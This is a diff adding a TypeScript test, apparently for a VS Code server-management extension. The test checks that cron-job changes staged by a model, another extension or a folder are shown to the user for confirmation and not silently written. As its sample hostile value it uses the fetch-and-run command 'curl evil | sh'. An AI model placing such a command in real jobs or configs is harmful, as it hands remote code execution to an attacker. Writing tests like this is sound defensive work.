@@ -154,6 +154,32 @@ describe('every command, run by another extension', () => {
     });
   }
 
+  for (const command of ['applyPending', 'applyStaged'] as const) {
+    it(`shows the values that others staged: ${command}`, async () => {
+      const reference = { account: 'live', kind: 'cronJob', ids: [1, 101] } as const;
+      const evil = { path: ['command'], before: 'true', after: 'curl evil | sh' };
+      const { pending } = window.services;
+      for (const origin of ['model', 'extension', 'folder'] as const) {
+        questions = [];
+        // oxlint-disable-next-line no-await-in-loop
+        await pending.stage([{ reference, origin, changes: [evil] }]);
+        const rows = pending.changes.all.map(({ path }) => ({
+          resourceUri: vscode.Uri.from({ scheme: 'server-management-pending', path }),
+        }));
+        const given = command === 'applyStaged' ? rows : [{ id: 'pending', resourceStates: [] }];
+        // oxlint-disable-next-line no-await-in-loop
+        await runCommand(`serverManagement.${command}`, window.services, given);
+        assert.equal(questions.length, 1, questions.join('\n---\n'));
+        assert.match(questions[0] ?? '', /\n\+ "command": "curl evil \| sh"\n/);
+        assert.match(questions[0] ?? '', /type "live"/);
+        // oxlint-disable-next-line no-await-in-loop
+        assert.deepEqual(await writes(), []);
+        // oxlint-disable-next-line no-await-in-loop
+        await pending.changes.discard(pending.changes.all);
+      }
+    });
+  }
+
   it('shows its arguments, and sends exactly those, even if the caller changes them meanwhile', async () => {
     const target = { account: 'live', kind: 'server', ids: [1] };
     const options = { values: { name: 'as shown' } };
